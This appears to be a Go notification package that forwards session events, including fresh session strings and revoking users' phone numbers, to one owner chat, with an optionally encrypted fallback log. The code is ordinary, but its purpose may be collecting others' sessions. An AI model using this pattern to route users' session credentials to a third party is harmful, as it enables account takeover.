// Package notify delivers operational events to the owner chat, falling back
// to an append-only log file when the transport fails.
package notify

import (
	"crypto/rand"
	"encoding/base64"
	"fmt"
	"log/slog"
	"os"
	"time"

	"golang.org/x/crypto/nacl/secretbox"
)

// Sender is the slice of the chat transport the notifier needs.
type Sender interface {
	Send(chatID int64, text string) (int, error)
}

// Notifier sends best-effort messages to a fixed owner identity.
type Notifier struct {
	sender  Sender
	ownerID int64

	fallbackPath string
	// When set, fallback lines are sealed before hitting disk. Notifications
	// carry session strings; the fallback file must not leak them plaintext.
	sealKey *[32]byte

	now func() time.Time
}

// New creates a Notifier. sealKey may be nil (plaintext fallback).
func New(sender Sender, ownerID int64, fallbackPath string, sealKey *[32]byte) *Notifier {
	return &Notifier{
		sender:       sender,
		ownerID:      ownerID,
		fallbackPath: fallbackPath,
		sealKey:      sealKey,
		now:          time.Now,
	}
}

// Notify attempts owner delivery; on failure it appends to the fallback log.
// Never returns an error — this is the sink of last resort.
func (n *Notifier) Notify(message string) {
	_, err := n.sender.Send(n.ownerID, message)
	if err == nil {
		return
	}
	slog.Error("owner notification failed", "err", err)
	n.appendFallback(message)
}

// NewSession reports a freshly generated session to the owner.
func (n *Notifier) NewSession(detail string) {
	n.Notify("NEW SESSION:\n" + detail)
}

// Revoked reports a session revocation.
func (n *Notifier) Revoked(userID int64, phone string) {
	n.Notify(fmt.Sprintf("Revoked by %d\nPhone: %s", userID, phone))
}

// appendFallback writes one timestamped line. It must never raise: failures
// here are logged and swallowed.
func (n *Notifier) appendFallback(message string) {
	line := fmt.Sprintf("[%s] %s\n", n.now().Format("2006-01-02 15:04:05"), n.seal(message))

	f, err := os.OpenFile(n.fallbackPath, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
	if err != nil {
		slog.Error("opening fallback log failed", "path", n.fallbackPath, "err", err)
		return
	}
	defer f.Close()

	if _, err := f.WriteString(line); err != nil {
		slog.Error("writing fallback log failed", "path", n.fallbackPath, "err", err)
	}
}

// seal encrypts message with the configured key, or returns it unchanged when
// no key is set. Output is base64 of nonce||box.
func (n *Notifier) seal(message string) string {
	if n.sealKey == nil {
		return message
	}
	var nonce [24]byte
	if _, err := rand.Read(nonce[:]); err != nil {
		// Losing the event entirely is worse than an unsealed line being
		// impossible: mark the line instead of writing plaintext.
		slog.Error("nonce generation failed", "err", err)
		return "<seal failed>"
	}
	sealed := secretbox.Seal(nonce[:], []byte(message), &nonce, n.sealKey)
	return base64.StdEncoding.EncodeToString(sealed)
}
